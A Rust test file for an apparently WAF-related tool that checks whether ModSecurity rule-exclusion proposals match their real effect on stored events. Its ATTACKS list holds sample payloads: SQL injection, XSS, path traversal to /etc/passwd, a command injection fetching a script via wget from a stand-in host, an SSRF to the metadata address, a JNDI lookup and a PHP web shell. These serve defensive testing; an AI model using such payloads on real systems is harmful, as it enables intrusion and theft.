//! What a proposal says of stored events against what its text does once it stands in the site: rules that were compiled
//! with the text must change the same events in the same way, also where the effect was told without compiling.

use std::fs;
use std::sync::Arc;

use portcullis_engine::{Compatibility, RuleSet};
use portcullis_insight::proposals::{Effect, Scope, proposals};
use portcullis_insight::{EventDetail, Proposal, Verdict, replay};
use portcullis_site::{RuleSource, Site};

use super::{RULES, event_of, site};

/// Verdict, score and matches of rules that look at the request.
type Judgement = (Verdict, i64, Vec<(u64, Vec<u8>)>);

fn judgement(event: &EventDetail, rules: &Arc<RuleSet>) -> Judgement {
    let Some(detail) = replay::replay(event, rules).event.detail else {
        return (Verdict::Passed, 0, Vec::new());
    };
    let matched = detail.matched.iter().filter(|rule| !rule.sums_up);
    let matched = matched.map(|rule| (rule.id, rule.variable.as_slice().to_vec()));
    (detail.summary.verdict, detail.summary.score, matched.collect())
}

fn blocks(judgement: &Judgement) -> bool {
    matches!(judgement.0, Verdict::Blocked | Verdict::WouldBeBlocked)
}

/// The effect that the written text has on these events, and the events it changes: id, verdict, score.
fn written(
    site: &Site,
    proposal: &Proposal,
    today: &Arc<RuleSet>,
    concerned: &[&EventDetail],
) -> (Effect, Vec<(String, Verdict, i64)>) {
    let changed = site.with_changes(&proposal.changes).load(Compatibility::default()).rule_set.unwrap();
    let (mut effect, mut named) = (Effect::default(), Vec::new());
    for event in concerned {
        let (now, then) = (judgement(event, today), judgement(event, &changed));
        effect.events += 1;
        effect.cleared += u64::from(then.2.is_empty() && !blocks(&then));
        if blocks(&now) && !blocks(&then) {
            effect.released += 1;
            effect.released_with_other_rules += u64::from(!then.2.is_empty());
        }
        if now != then {
            named.push((event.summary.id.clone(), then.0, then.1));
        }
    }
    (effect, named)
}

/// Compares both ways for every proposal of a rule; tells of each whether it was compiled.
fn compare(
    site: &Site,
    today: &Arc<RuleSet>,
    asked: &EventDetail,
    rule: u64,
    stored: &[EventDetail],
) -> Vec<(Scope, bool)> {
    let found =
        proposals(site, Compatibility::default(), Some(Arc::clone(today)), asked, rule, stored).unwrap();
    assert!(!found.is_empty(), "rule {rule} of {}", asked.summary.id);
    let attack = |event: &EventDetail| {
        event.matched.iter().flat_map(|one| &one.tags).any(|tag| {
            let asked = asked.matched.iter().find(|one| one.id == rule).unwrap();
            tag.as_slice().starts_with(b"attack-")
                && asked.tags.iter().find(|t| t.as_slice().starts_with(b"attack-")) == Some(tag)
        })
    };
    let check = |proposal: &Proposal| {
        let concerned: Vec<&EventDetail> = match proposal.scope {
            Scope::TagTargetOnPath => stored.iter().filter(|event| attack(event)).collect(),
            _ => stored.iter().filter(|event| event.summary.rules.contains(&rule)).collect(),
        };
        let (effect, named) = written(site, proposal, today, &concerned);
        let told = Effect { doubtful: 0, ..proposal.effect };
        assert_eq!(told, effect, "rule {rule} of {}:\n{}", asked.summary.id, proposal.text);
        let changed = proposal.changed.iter().map(|one| (one.event.id.clone(), one.then, one.score));
        assert_eq!(changed.collect::<Vec<_>>(), named, "rule {rule}:\n{}", proposal.text);
        (proposal.scope, proposal.is_compiled)
    };
    found.iter().map(check).collect()
}

#[test]
fn small_rules() {
    let folder = tempfile::tempdir().unwrap();
    let site = site(folder.path());
    let today = site.load(Compatibility::default()).rule_set.unwrap();
    let stored = [
        "/search?q=please+select",
        "/search?other=select&Q=select",
        "/find?q=select&x=script",
        "//search?q=select",
        "/se%61rch?q=select",
    ];
    let stored = stored.map(|target| {
        let (path, query) = target.split_once('?').unwrap();
        event_of(&today, path, query)
    });
    for asked in &stored {
        let ways = compare(&site, &today, asked, 1000, &stored);
        assert!(ways.iter().all(|(_, is_compiled)| !is_compiled), "{}: {ways:?}", asked.summary.id);
    }
}

/// Rules for which an exclusion is more than state: the site is compiled, and the answer is right.
#[test]
fn where_only_compiling_tells() {
    let jump = format!("SecRule ARGS \"@contains find\" \"id:7,phase:2,pass,nolog,skip:1\"\n{RULES}");
    let by_id = jump.replace("skip:1", "skipAfter:1000");
    let early = format!(
        "SecRule REQUEST_URI \"@contains q\" \"id:7,phase:1,pass,nolog,skipAfter:END\"\nSecMarker END\n{RULES}"
    );
    let excluded =
        RULES.replace("SecRule ARGS \"@contains select", "SecRule !ARGS:q|ARGS \"@contains select");
    for (rules, place, expected) in [
        (&jump, "10-test.conf", vec![Scope::Rule]),
        (&by_id, "10-test.conf", vec![Scope::Rule]),
        // Rules that are read behind the file of exclusions are not changed by it, so those are no proposals.
        (&RULES.to_owned(), "zzz.conf", vec![]),
        (&early, "00-a.conf", vec![Scope::TargetOnPath, Scope::RuleOnPath]),
        // The same target is not excluded a second time: that text changes nothing and is no proposal.
        (&excluded, "10-test.conf", vec![]),
    ] {
        let folder = tempfile::tempdir().unwrap();
        let site = site(folder.path());
        let activated = folder.path().join("rules/activated_rules");
        fs::remove_file(activated.join("10-test.conf")).unwrap();
        fs::write(activated.join(place), rules).unwrap();
        let today = site.load(Compatibility::default()).rule_set.unwrap();
        let stored =
            [event_of(&today, "/search", "q=select"), event_of(&today, "/find", "q=select&x=script+find")];
        let ways = compare(&site, &today, &stored[0], 1000, &stored);
        let compiled: Vec<Scope> =
            ways.iter().filter(|(_, is_compiled)| *is_compiled).map(|(scope, _)| *scope).collect();
        assert_eq!(compiled, expected, "{place}:\n{rules}");
        let has_target = ways.iter().any(|(scope, _)| *scope == Scope::Target);
        assert_eq!(has_target, place != "zzz.conf" && rules != &excluded, "{place}:\n{rules}");
    }
}

/// Requests on which rules of many families of the Core Rule Set match, some by chains and by what rules hand on.
const ATTACKS: [&str; 8] = [
    "/search?q=1%27+UNION+SELECT+name,password+FROM+users--+-",
    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E&id=1%27+or+%271%27=%271",
    "/?file=../../../../etc/passwd",
    "/run?cmd=;cat+/etc/passwd|wget+http://x.test/a.sh",
    "/page?url=http://169.254.169.254/latest/meta-data",
    "/a?x=%24%7Bjndi:ldap://x.test/a%7D",
    "/a?x=%3C%3Fphp+system(%24_GET%5B0%5D)%3B",
    "/.git/config?a=1&a=2",
];

#[test]
fn the_core_rule_set() {
    let Some(folder) = portcullis_testkit::corpus::folder("crs-v4") else { return };
    let root = tempfile::tempdir().unwrap();
    portcullis_site::init(root.path(), &RuleSource::Crs(folder), "").unwrap();
    let site = Site::open(root.path()).unwrap();
    let today = site.load(Compatibility::default()).rule_set.unwrap();
    let stored = ATTACKS.map(|target| {
        let (path, query) = target.split_once('?').unwrap();
        event_of(&today, path, query)
    });
    let (mut count, mut compiled) = (0, 0);
    // Compiling takes a second.
    for asked in stored.iter().take(4) {
        let rule = asked.matched.iter().find(|one| !one.sums_up).map(|one| one.id).unwrap();
        for (_, is_compiled) in compare(&site, &today, asked, rule, &stored) {
            count += 1;
            compiled += u64::from(is_compiled);
        }
    }
    assert!(count >= 16, "{count} proposals");
    assert_eq!(compiled, 0, "of {count} proposals");
}
